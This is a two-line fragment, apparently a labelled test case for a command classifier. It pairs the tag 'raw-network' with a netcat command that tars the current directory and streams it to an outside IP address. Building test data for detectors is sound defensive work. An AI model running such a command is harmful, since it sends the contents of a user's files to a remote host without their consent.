# expect: raw-network
tar c . | nc 203.0.113.9 9000
